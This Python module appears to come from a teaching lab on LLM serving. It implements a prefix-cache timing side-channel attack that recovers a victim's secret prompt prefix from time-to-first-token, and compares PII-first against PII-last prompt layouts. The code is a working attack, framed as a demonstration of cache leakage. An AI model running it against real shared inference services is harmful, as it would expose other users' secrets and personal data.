"""Notebook 13's experiments: the prefix-cache timing attack over real HTTP, and the
"shared" system prompt that carries per-user PII near its start.

The attack. A victim's prompt opens with a secret (a system prompt naming a vault code).
An attacker who can list candidate secrets sends each as the opening of its own prompt
and times the first token: a guess the cache holds skips the prefill of its blocks and
answers sooner. The attacker warms up with one throwaway request, then calibrates a
threshold on its own prompts (three, each sent twice: a miss, then a hit on its own
blocks; the midpoint of the median miss and the median hit), and calls each guess
"cached" when its first token came sooner. Each trial uses a fresh code, so no guess
ever hits the attacker's own earlier probes.

    rows = timing_attack(url, tokenizer, trials=8, victim_key=None, attacker_key=None)

The PII layout. A per-user line (a name, an account number) placed before the shared
instructions makes every user's first block different: nothing after it is ever shared,
and anyone who can guess the line can test it against the cache. After the instructions,
the instructions are shared and the PII sits in the user's own last blocks.
"""

from __future__ import annotations

import asyncio
import random
from concurrent.futures import ThreadPoolExecutor

import httpx
import pandas as pd

from kvlab import texts
from kvlab.serve.probe import bearer, first_token

SECRET = "The ACME vault code is {code}.\n\n"  # the whole code in the first block
TAIL = "\n\nUser: Hello! Who are you?\nAssistant:"


def instructions() -> str:
    """The shared instructions of notebook 13's prompts: the opening of the doc-QA
    preamble (~130 tokens, whole lines)."""
    return texts.preamble()[:700].rsplit("\n", 1)[0]


def secret_ids(tokenizer, code: str) -> list[int]:
    """Token ids of the secret system prompt with `code` (the instructions follow it)."""
    return list(tokenizer.encode(SECRET.format(code=code) + instructions()))


def run_sync(coroutine):
    """Run a coroutine to its end from code that may already run an event loop (Jupyter)."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, coroutine).result()


def timing_attack(
    url: str, tokenizer, trials: int = 8, victim_key=None, attacker_key=None, seed: int = 0
) -> pd.DataFrame:
    """One row per probe: trial, guess ("right": the victim's secret, "wrong": another
    code), ttft_s, cached_tokens (what the server's usage told the attacker), and the
    attacker's verdict (cached: its first token came sooner than the threshold)."""
    return run_sync(_attack(url, tokenizer, trials, victim_key, attacker_key, seed))


async def _attack(url, tokenizer, trials, victim_key, attacker_key, seed) -> pd.DataFrame:
    rng = random.Random(seed)
    codes = iter(f"{rng.randrange(10**6):06d}" for _ in range(3 * trials + 8))
    tail = list(tokenizer.encode(TAIL))
    endpoint = f"{url}/v1/completions"

    def body(ids: list[int]) -> dict:
        return {"prompt": ids, "max_tokens": 1, "temperature": 0}

    victim = httpx.AsyncClient(timeout=600, headers=bearer(victim_key))
    attacker = httpx.AsyncClient(timeout=600, headers=bearer(attacker_key))
    async with victim, attacker:
        # One throwaway request first: a new connection and the engine's first prefills of
        # a shape run slower than later ones, and would push the threshold up.
        await first_token(attacker, endpoint, body(secret_ids(tokenizer, next(codes)) + tail))
        calibration = []
        for _ in range(3):  # its own prompt twice: a miss, then a hit
            mine = body(secret_ids(tokenizer, next(codes)) + tail)
            pair = [await first_token(attacker, endpoint, mine) for _ in range(2)]
            calibration.append([p.seconds for p in pair])
        miss = sorted(c[0] for c in calibration)[1]
        hit = sorted(c[1] for c in calibration)[1]
        threshold = (miss + hit) / 2
        rows = []
        for trial in range(trials):
            secret = secret_ids(tokenizer, next(codes))
            await first_token(victim, endpoint, body(secret + list(tokenizer.encode(" Hi"))))
            guesses = {"right": secret, "wrong": secret_ids(tokenizer, next(codes))}
            for guess in rng.sample(sorted(guesses), 2):
                probe = await first_token(attacker, endpoint, body(guesses[guess] + tail))
                rows.append(
                    {"trial": trial, "guess": guess, "ttft_s": probe.seconds,
                     "cached_tokens": probe.cached_tokens,
                     "verdict": "cached" if probe.seconds < threshold else "not cached"}
                )  # fmt: skip
    frame = pd.DataFrame(rows)
    frame["correct"] = (frame["guess"] == "right") == (frame["verdict"] == "cached")
    frame.attrs["threshold_s"] = threshold
    return frame


def attack_summary(frames: dict[str, pd.DataFrame]) -> pd.DataFrame:
    """Per setting: median TTFT of right and wrong guesses, the attacker's accuracy with
    its threshold, and the share of trials whose right guess answered first (an attacker
    comparing its two guesses of a trial needs no threshold: 0.5 is a coin's)."""
    rows = []
    for setting, frame in frames.items():
        median = frame.groupby("guess")["ttft_s"].median()
        by_trial = frame.pivot(index="trial", columns="guess", values="ttft_s")
        rows.append(
            {"setting": setting, "right guess, median TTFT (s)": round(median["right"], 3),
             "wrong guess, median TTFT (s)": round(median["wrong"], 3),
             "threshold (s)": round(frame.attrs["threshold_s"], 3),
             "attacker's accuracy": round(frame["correct"].mean(), 2),
             "right guess first": round((by_trial["right"] < by_trial["wrong"]).mean(), 2)}
        )  # fmt: skip
    return pd.DataFrame(rows).set_index("setting")


def cached_tokens_seen(frames: dict[str, pd.DataFrame]) -> pd.DataFrame:
    """Per setting and guess: the cached_tokens the server reported to the attacker."""
    rows = []
    for setting, frame in frames.items():
        for guess, group in frame.groupby("guess"):
            counts = sorted(set(group["cached_tokens"]))
            rows.append({"setting": setting, "guess": guess, "cached_tokens reported": counts})
    return pd.DataFrame(rows).set_index(["setting", "guess"])


USERS = [("Alice Moreau", "4471-0093"), ("Bilal Khan", "5502-8811"), ("Chen Wei", "7730-1264")]


def pii_prompts(layout: str, users=USERS) -> list[str]:
    """One prompt per user: the per-user line before the shared instructions ("PII
    first") or after them ("PII last"), then the same question."""
    question = "\n\nQuestion: what are the rules you follow?"
    prompts = []
    for name, account in users:
        line = f"Customer: {name}, account {account}.\n\n"
        shared = instructions()
        prompts.append(line + shared + question if layout == "PII first" else shared + "\n\n" +
                       line.strip() + question)  # fmt: skip
    return prompts


def pii_layouts(engine, params) -> tuple[pd.DataFrame, dict[str, str]]:
    """Serve each layout's prompts one after another on `engine` (prefix caching on):
    a row per user (prompt tokens, tokens that hit the cache), and for each layout what
    `engine.explain` says about its last user's request."""
    rows, explained = [], {}
    for layout in ("PII first", "PII last"):
        for (name, _), prompt in zip(USERS, pii_prompts(layout)):
            out = engine.generate([prompt], params, chat=False, progress=False)[0]
            rows.append(
                {"layout": layout, "user": name, "prompt tokens": len(out.prompt_token_ids),
                 "hit tokens": out.metrics.prefix_hit_tokens}
            )  # fmt: skip
            explained[layout] = engine.explain(out.request_id)
    return pd.DataFrame(rows).set_index(["layout", "user"]), explained
